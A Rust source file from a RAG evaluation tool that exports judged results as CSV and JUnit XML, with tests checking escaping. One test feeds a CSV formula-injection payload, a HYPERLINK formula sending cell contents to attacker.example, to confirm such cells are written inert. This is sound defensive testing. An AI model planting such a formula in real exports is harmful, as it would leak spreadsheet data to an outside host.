//! Machine formats of a judged run: one CSV row per verdict, and JUnit XML (a test suite per configuration,
//! a test case per case) so CI systems show ragtester results like any other test report.

use crate::ReportInputs;
use crate::cause::attribution;
use crate::summary::primary_verdicts;
use anyhow::Result;
use quick_xml::Writer;
use quick_xml::events::BytesText;
use ragtester_core::{Answer, TestCase, Verdict, VerdictStatus};
use std::collections::HashMap;
use std::io::Write;

fn case_index<'a>(inputs: &'a ReportInputs<'_>) -> HashMap<&'a str, &'a TestCase> {
    inputs.cases.iter().map(|c| (c.id.as_str(), c)).collect()
}

fn status(v: &Verdict) -> &'static str {
    match (v.status, v.passed) {
        (VerdictStatus::Ok, Some(true)) => "passed",
        (VerdictStatus::Ok, _) => "failed",
        (VerdictStatus::JudgeError, _) => "judge_error",
        (VerdictStatus::ExecError, _) => "exec_error",
    }
}

fn opt<T: ToString>(x: Option<T>) -> String {
    x.map(|v| v.to_string()).unwrap_or_default()
}

/// A claim metric of a verdict; empty when it has none (or its claims could not be checked).
fn claim(v: &Verdict, pick: fn(&ragtester_core::ClaimMetrics) -> Option<f64>) -> String {
    opt(v.claims.as_ref().and_then(pick))
}

/// One row per verdict, with the case, the configuration label, the outcome and the answer.
pub fn render_csv(inputs: &ReportInputs<'_>) -> Result<String> {
    let mut out = Vec::new();
    write_csv(inputs, &mut out)?;
    Ok(String::from_utf8(out)?)
}

/// The CSV's columns, in order.
const CSV_COLUMNS: [&str; 40] = [
    "case_id",
    "config_id",
    "configuration",
    "judge",
    "category",
    "strategy",
    "generator",
    "language",
    "status",
    "criteria_mean",
    "correctness",
    "cause",
    "cause_evidence",
    "hit",
    "reciprocal_rank",
    "ndcg",
    "recall",
    "precision",
    "keyword_recall_context",
    "refused",
    "language_match",
    "injection_followed",
    "claim_recall",
    "claim_precision",
    "claim_faithfulness",
    "claim_hallucination",
    "noise_sensitivity",
    "context_utilization",
    "context_precision",
    "rule_failure",
    "query",
    "expected_answer",
    "answer",
    "error",
    // A turn of a conversation: which, where, what it does, and the query the system rewrote it into.
    "conversation",
    "turn",
    "turn_step",
    "rewritten_query",
    // The id the imported row carried, to match results back to a team's log; the profile's score.
    "row_id",
    "score",
];

/// `render_csv` streamed into `out`, row by row: a large run's CSV is never held whole.
pub fn write_csv(inputs: &ReportInputs<'_>, out: impl std::io::Write) -> Result<()> {
    let cases = case_index(inputs);
    let labels: HashMap<&str, String> = inputs
        .configs
        .iter()
        .map(|c| (c.id.as_str(), c.label()))
        .collect();
    let answers = answer_index(inputs);
    let mut w = csv::Writer::from_writer(out);
    w.write_record(CSV_COLUMNS)?;
    for v in inputs.verdicts {
        let Some(case) = cases.get(v.case_id.as_str()) else {
            continue;
        };
        let answer = answers
            .get(&(v.case_id.as_str(), v.config_id.as_str()))
            .copied();
        let found = attribution(case, answer, v);
        let cause = found.as_ref().map_or("", |a| a.cause.as_str());
        let evidence = found.as_ref().map_or("", |a| a.evidence.as_str());
        // Every cell inert in a spreadsheet: an answer or a document may start with `=`.
        w.write_record(ragtester_core::spreadsheet::inert_row([
            v.case_id.as_str(),
            v.config_id.as_str(),
            labels.get(v.config_id.as_str()).map_or("", String::as_str),
            v.judge.as_str(),
            case.category.as_str(),
            case.strategy.as_str(),
            case.generator.as_str(),
            case.language.as_str(),
            status(v),
            &opt(v.criteria_mean),
            &opt(v.rubric.as_ref().map(|r| r.correctness.score)),
            cause,
            evidence,
            &opt(v.metrics.hit),
            &opt(v.metrics.reciprocal_rank),
            &opt(v.metrics.ndcg),
            &opt(v.metrics.recall),
            &opt(v.metrics.precision),
            &opt(v.metrics.keyword_recall_context),
            &v.metrics.refused.to_string(),
            &opt(v.metrics.language_match),
            &opt(v.metrics.injection_followed),
            &claim(v, |c| c.claim_recall),
            &claim(v, |c| c.claim_precision),
            &claim(v, |c| c.faithfulness),
            &claim(v, |c| c.hallucination),
            &claim(v, |c| c.noise_sensitivity),
            &claim(v, |c| c.context_utilization),
            &claim(v, |c| c.context_precision),
            v.rule_failure.as_deref().unwrap_or(""),
            case.query.as_str(),
            case.expected_answer.as_str(),
            answer.map_or("", |a| a.answer.as_str()),
            v.error.as_deref().unwrap_or(""),
            case.conversation().unwrap_or(""),
            &case
                .turn
                .as_ref()
                .map_or(String::new(), |t| format!("{}/{}", t.index, t.of)),
            case.turn.as_ref().map_or("", |t| t.step.as_str()),
            answer
                .and_then(|a| a.rewritten_query.as_deref())
                .unwrap_or(""),
            case.row_id.as_deref().unwrap_or(""),
            &opt(v.score),
        ]))?;
    }
    w.flush()?;
    Ok(())
}

/// Characters XML 1.0 cannot carry at all (most C0 controls): model output may hold them.
fn xml_safe(s: &str) -> String {
    s.chars()
        .filter(|c| {
            matches!(*c, '\t' | '\n' | '\r') || (*c >= ' ' && *c != '\u{FFFE}' && *c != '\u{FFFF}')
        })
        .collect()
}

fn answer_index<'a>(inputs: &'a ReportInputs<'_>) -> HashMap<(&'a str, &'a str), &'a Answer> {
    inputs
        .answers
        .iter()
        .map(|a| ((a.case_id.as_str(), a.config_id.as_str()), a))
        .collect()
}

/// JUnit XML: failed verdicts are `<failure>`, judge and execution errors are `<error>`.
pub fn render_junit(inputs: &ReportInputs<'_>) -> Result<String> {
    let mut out = Vec::new();
    write_junit(inputs, &mut out)?;
    Ok(String::from_utf8(out)?)
}

/// `render_junit` streamed into `out`.
pub fn write_junit(inputs: &ReportInputs<'_>, out: impl std::io::Write) -> Result<()> {
    let cases = case_index(inputs);
    let answers = answer_index(inputs);
    let mut out = std::io::BufWriter::new(out);
    out.write_all(b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n")?;
    let mut writer = Writer::new_with_indent(out, b' ', 2);
    let verdicts = primary_verdicts(inputs.verdicts);
    writer
        .create_element("testsuites")
        .with_attribute(("name", "ragtester"))
        .write_inner_content(|w| {
            for config in inputs.configs {
                let vs: Vec<&&Verdict> = verdicts
                    .iter()
                    .filter(|v| v.config_id == config.id)
                    .collect();
                let failures = vs
                    .iter()
                    .filter(|v| v.status == VerdictStatus::Ok && v.passed == Some(false))
                    .count();
                let errors = vs.iter().filter(|v| v.status != VerdictStatus::Ok).count();
                let label = xml_safe(&config.label());
                w.create_element("testsuite")
                    .with_attribute(("name", label.as_str()))
                    .with_attribute(("id", config.id.as_str()))
                    .with_attribute(("tests", vs.len().to_string().as_str()))
                    .with_attribute(("failures", failures.to_string().as_str()))
                    .with_attribute(("errors", errors.to_string().as_str()))
                    .write_inner_content(|w| {
                        for v in &vs {
                            let Some(case) = cases.get(v.case_id.as_str()) else {
                                continue;
                            };
                            let answer = answers
                                .get(&(v.case_id.as_str(), v.config_id.as_str()))
                                .copied();
                            write_testcase(w, case, v, answer, &label)?;
                        }
                        Ok(())
                    })?;
            }
            Ok(())
        })?;
    let mut out = writer.into_inner();
    out.write_all(b"\n")?;
    out.flush()?;
    Ok(())
}

/// One verdict as a JUnit test case: passed (empty), a `<failure>` with the cause and the criteria's
/// reasons, or an `<error>` with the error.
fn write_testcase<W: std::io::Write>(
    w: &mut Writer<W>,
    case: &TestCase,
    v: &Verdict,
    answer: Option<&Answer>,
    label: &str,
) -> std::io::Result<()> {
    // A conversation's turn is named as one: the conversation, the turn's place, then the question.
    let turn = case.turn.as_ref().map_or(String::new(), |t| {
        format!(
            "[conversation {} turn {}/{}] ",
            t.conversation.chars().take(8).collect::<String>(),
            t.index,
            t.of
        )
    });
    let name = xml_safe(&format!(
        "{turn}[{}] {}",
        case.category.as_str(),
        case.query
    ));
    let element = w
        .create_element("testcase")
        .with_attribute(("name", name.as_str()))
        .with_attribute(("classname", label))
        .with_attribute(("id", case.id.as_str()));
    match (v.status, v.passed) {
        (VerdictStatus::Ok, Some(true)) => {
            element.write_empty()?;
        }
        (VerdictStatus::Ok, _) => {
            let reasons: Vec<String> = v
                .criteria
                .iter()
                .flat_map(|c| c.all().map(|k| format!("{:?}: {}", k.rating, k.reason)))
                .collect();
            let mean = v.criteria_mean.unwrap_or(0.0);
            let message = xml_safe(&match attribution(case, answer, v) {
                Some(a) => format!("{}: {}; mean {mean:.2}", a.cause, a.evidence),
                None => format!("mean {mean:.2}"),
            });
            let body = xml_safe(&reasons.join("\n"));
            element.write_inner_content(|w| {
                w.create_element("failure")
                    .with_attribute(("message", message.as_str()))
                    .write_text_content(BytesText::new(&body))?;
                Ok(())
            })?;
        }
        _ => {
            let message = xml_safe(v.error.as_deref().unwrap_or("error"));
            let kind = status(v);
            element.write_inner_content(|w| {
                w.create_element("error")
                    .with_attribute(("type", kind))
                    .with_attribute(("message", message.as_str()))
                    .write_empty()?;
                Ok(())
            })?;
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testdata::{case, verdict};
    use ragtester_core::{ChunkingSettings, Configuration, Fusion, RetrieverKind};

    #[test]
    fn csv_and_junit_are_well_formed_and_count_right() {
        let config = Configuration::new(
            "offline".into(),
            "none".into(),
            RetrieverKind::Bm25,
            3,
            ChunkingSettings::default(),
            Fusion::default(),
        );
        let cases = vec![
            case("a", "What, \"exactly\"?\n<script>"),
            case("b", "b?"),
            case("c", "c\u{1}?"),
        ];
        let verdicts = vec![
            verdict("a", &config.id, Some(true), VerdictStatus::Ok),
            verdict("b", &config.id, Some(false), VerdictStatus::Ok),
            verdict("c", &config.id, None, VerdictStatus::ExecError),
        ];
        let inputs = ReportInputs {
            prices: &Default::default(),
            documents: &[],
            cases: &cases,
            configs: std::slice::from_ref(&config),
            answers: &[],
            verdicts: &verdicts,
            oracle: None,
            audit: None,
            pairwise: None,
            chunk_coverage: &Default::default(),
            skipped: &[],
            embedder_profiles: &[],
        };
        let csv_text = render_csv(&inputs).unwrap();
        let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(csv_text.as_bytes())
            .records()
            .collect::<Result<_, _>>()
            .unwrap();
        assert_eq!(rows.len(), 3);
        assert_eq!(&rows[0][30], "What, \"exactly\"?\n<script>");
        assert_eq!(&rows[1][8], "failed");
        assert!(!rows[1][11].is_empty(), "a failed cell has a cause");
        assert_eq!(&rows[2][8], "exec_error");
        assert_eq!(&rows[2][11], "provider_error");

        let xml = render_junit(&inputs).unwrap();
        let mut reader = quick_xml::Reader::from_str(&xml);
        let (mut testcases, mut failures, mut errors) = (0, 0, 0);
        loop {
            match reader.read_event().expect("well-formed XML") {
                quick_xml::events::Event::Eof => break,
                quick_xml::events::Event::Start(e) | quick_xml::events::Event::Empty(e) => {
                    match e.name().as_ref() {
                        "testcase" => testcases += 1,
                        "failure" => failures += 1,
                        "error" => errors += 1,
                        _ => {}
                    }
                }
                _ => {}
            }
        }
        assert_eq!((testcases, failures, errors), (3, 1, 1));
        assert!(
            xml.contains("failures=\"1\"")
                && xml.contains("errors=\"1\"")
                && !xml.contains('\u{0}')
        );
        assert!(!xml.contains("<script>"));
    }

    /// A conversation id of several-byte characters (as an imported log may carry) names its turn without
    /// cutting a character; cells a spreadsheet would evaluate are written inert.
    #[test]
    fn hostile_cells_neither_panic_nor_run_in_a_spreadsheet() {
        let config = Configuration::new(
            "offline".into(),
            "none".into(),
            RetrieverKind::Bm25,
            3,
            ChunkingSettings::default(),
            Fusion::default(),
        );
        let mut turn = case("t", "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")");
        turn.turn = Some(ragtester_core::Turn {
            conversation: "对话一二三四五六七".into(),
            index: 2,
            of: 3,
            kind: ragtester_core::ConversationKind::FollowUp,
            step: ragtester_core::TurnStep::FollowUp,
            standalone: None,
            history: Vec::new(),
        });
        turn.expected_answer = "@SUM(1+1)".into();
        let cases = vec![turn];
        let verdicts = vec![verdict("t", &config.id, Some(false), VerdictStatus::Ok)];
        let inputs = ReportInputs {
            prices: &Default::default(),
            documents: &[],
            cases: &cases,
            configs: std::slice::from_ref(&config),
            answers: &[],
            verdicts: &verdicts,
            oracle: None,
            audit: None,
            pairwise: None,
            chunk_coverage: &Default::default(),
            skipped: &[],
            embedder_profiles: &[],
        };
        let xml = render_junit(&inputs).unwrap();
        assert!(
            xml.contains("[conversation 对话一二三四五六 turn 2/3]"),
            "{xml}"
        );
        let csv_text = render_csv(&inputs).unwrap();
        let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(csv_text.as_bytes())
            .records()
            .collect::<Result<_, _>>()
            .unwrap();
        assert!(rows[0][30].starts_with("'=HYPERLINK"), "{:?}", &rows[0][30]);
        assert_eq!(&rows[0][31], "'@SUM(1+1)");
        for cell in rows[0].iter() {
            assert!(
                !cell.starts_with(['=', '+', '@']),
                "a live formula cell: {cell:?}"
            );
        }
    }
}
